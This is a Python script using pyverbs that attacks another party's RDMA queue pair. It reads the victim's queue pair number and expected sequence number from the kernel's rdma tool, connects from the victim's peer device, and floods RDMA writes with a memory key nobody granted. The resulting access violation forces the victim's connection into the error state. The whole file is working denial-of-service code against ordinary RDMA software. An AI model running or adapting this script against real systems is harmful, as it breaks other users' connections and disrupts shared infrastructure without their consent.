"""Forces somebody else's queue pair into the error state, by a packet that it must refuse.

usage: break_queue.py DEVICE TARGET_DEVICE TARGET_GID SECONDS
DEVICE is the one at the other end of the victim's rail, so that the packets have the source that the victim expects.
The kernel tells the victim's number and the sequence number that it waits for; a write of that number with a key that
nobody gave out is an access violation, which ends the queue pair. Prints ``broken QPN`` and exits 0, or exits 1.
"""

import json
import subprocess
import sys
import time

from pyverbs.pyverbs_error import PyverbsError
from queue_pair import Queue

WINDOW = 100  # writes at once; soft RDMA lets 128 be unconfirmed
PSN_MASK = 0xFFFFFF
MTU_4096 = 5


def victims(device):
    """The queue pairs of a device that are in use, by number."""
    text = subprocess.run(
        ["rdma", "-j", "resource", "show", "qp", "link", f"{device}/1"], capture_output=True, text=True, check=True
    ).stdout
    found = json.loads(text or "[]")
    return {qp["lqpn"]: qp for qp in found if qp.get("type") == "RC" and qp.get("state") == "RTS"}


def strike(device, gid, qp):
    queue = Queue(device, 4096, depth=WINDOW)
    # A little before: those are taken for copies of old packets and ignored.
    queue.connect(qp["lqpn"], gid, (qp["rq-psn"] - 5) & PSN_MASK, 0, MTU_4096, timeout=8, retries=1)
    for _ in range(WINDOW):
        try:
            queue.write(0, 8, 0x1000, 0xDEAD)
        except PyverbsError:
            break
    time.sleep(0.02)
    queue.qp.close()


def main():
    device, target, gid, seconds = sys.argv[1:]
    before = victims(target)
    assert before, f"no queue pair on {target}"
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        now = victims(target)
        broken = before.keys() - now.keys()
        if broken:
            print("broken", *sorted(broken))
            return 0
        number = min(before)
        strike(device, gid, now[number])
    return 1


sys.exit(main())
